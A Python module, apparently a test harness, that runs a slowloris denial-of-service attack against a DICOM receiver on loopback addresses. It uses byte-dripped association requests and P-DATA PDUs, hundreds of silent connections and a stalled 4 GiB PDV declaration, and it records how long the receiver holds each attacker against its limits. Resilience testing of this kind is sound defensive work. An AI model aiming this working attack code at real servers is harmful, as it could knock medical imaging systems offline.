"""A slowloris attack on a receiver, run by one thread: peers that drip their A-ASSOCIATE-RQ,
associated peers that drip a P-DATA PDU, silent connections that sent 3 bytes, and a peer
that declared a 4 GiB PDV and stalls. Every attacker that is cut off comes back at once, so
the pressure lasts; how long each was held is recorded against the limit that should end it.
"""

from __future__ import annotations

import selectors
import socket
import struct
import threading
import time
from collections import defaultdict
from dataclasses import dataclass, field

from raw_peer import (
    CT_IMAGE_STORAGE,
    EXPLICIT_LE,
    LAST,
    RawAssociation,
    associate_rq,
    command_set,
    p_data,
    pdv,
    store_fields,
)

CONTEXTS = [(1, CT_IMAGE_STORAGE, [EXPLICIT_LE])]
_TICK = 0.2


@dataclass
class _Attacker:
    kind: str
    source: str
    sock: socket.socket | None = None
    pending: bytes = b""
    """What it still drips, a byte per tick."""
    since: float = 0.0
    """When the limit that should end it began to run."""


@dataclass
class Attack:
    """The attack on ``address`` (see module doc); :meth:`held` after :meth:`stop`."""

    address: tuple[str, int]
    dripping_requests: int = 32
    dripping_pdata: int = 32
    silent: int = 300
    stalled: int = 1
    _held: dict[str, list[float]] = field(default_factory=lambda: defaultdict(list))
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> None:
        # kind, how many, from how many source addresses (127.0.<n>.x)
        plan = [
            ("dripping request", self.dripping_requests, 4),
            ("dripping pdata", self.dripping_pdata, 4),
            ("silent", self.silent, 10),
            ("stalled pdv", self.stalled, 1),
        ]
        attackers = [
            _Attacker(kind, f"127.0.{group}.{1 + n % sources}")
            for group, (kind, count, sources) in enumerate(plan, start=1)
            for n in range(count)
        ]
        self._thread = threading.Thread(target=self._run, args=(attackers,), daemon=True)
        self._thread.start()

    def stop(self) -> dict[str, list[float]]:
        """Stop; seconds each cut-off attacker was held after its limit began, by kind."""
        self._stop.set()
        assert self._thread is not None
        self._thread.join(timeout=60)
        return dict(self._held)

    def _run(self, attackers: list[_Attacker]) -> None:
        selector = selectors.DefaultSelector()
        for attacker in attackers:
            self._connect(attacker, selector)
        while not self._stop.is_set():
            deadline = time.monotonic() + _TICK
            while (remaining := deadline - time.monotonic()) > 0:
                for key, _ in selector.select(remaining):
                    self._readable(key.data, selector)
            for attacker in attackers:
                if attacker.sock is None:
                    self._connect(attacker, selector)
                elif attacker.pending:
                    self._send(attacker, attacker.pending[:1], selector)
                    attacker.pending = attacker.pending[1:]
        for attacker in attackers:
            if attacker.sock is not None:
                attacker.sock.close()
        selector.close()

    def _connect(self, attacker: _Attacker, selector: selectors.BaseSelector) -> None:
        try:
            if attacker.kind in ("dripping pdata", "stalled pdv"):
                sock = self._associated(attacker)
            else:
                sock = socket.socket()
                sock.bind((attacker.source, 0))
                sock.connect(self.address)
        except OSError:
            return  # refused (limits): try again next tick
        attacker.sock, attacker.since = sock, time.monotonic()
        if attacker.kind == "dripping request":
            attacker.pending = associate_rq(CONTEXTS, calling_ae="ATTACKER")
        elif attacker.kind == "silent":
            sock.send(b"\x01\x00\x00")
        selector.register(sock, selectors.EVENT_READ, attacker)

    def _associated(self, attacker: _Attacker) -> socket.socket:
        calling_ae = f"ATTACK{attacker.source.rsplit('.', 1)[1]}"
        peer = RawAssociation.open(
            self.address, CONTEXTS, calling_ae=calling_ae, source=attacker.source
        )
        command = p_data(pdv(1, 0x03, command_set(store_fields("1.2.3.4"))))
        if attacker.kind == "dripping pdata":
            attacker.pending = command + p_data(pdv(1, LAST, b"\0" * 4000))
        else:  # declares 4 GiB, sends 100 kB, stalls
            peer.send(command)
            peer.send(
                struct.pack(">BBLLBB", 0x04, 0, 0xFFFFFFFF, 0xFFFFFFFB, 1, 0) + b"\0" * 100_000
            )
        return peer.sock

    def _send(self, attacker: _Attacker, data: bytes, selector: selectors.BaseSelector) -> None:
        try:
            assert attacker.sock is not None
            attacker.sock.send(data)
        except OSError:
            self._gone(attacker, selector)

    def _readable(self, attacker: _Attacker, selector: selectors.BaseSelector) -> None:
        assert attacker.sock is not None
        try:
            data = attacker.sock.recv(65536)
        except OSError:
            data = b""
        if not data:
            self._gone(attacker, selector)

    def _gone(self, attacker: _Attacker, selector: selectors.BaseSelector) -> None:
        assert attacker.sock is not None
        self._held[attacker.kind].append(time.monotonic() - attacker.since)
        selector.unregister(attacker.sock)
        attacker.sock.close()
        attacker.sock, attacker.pending = None, b""
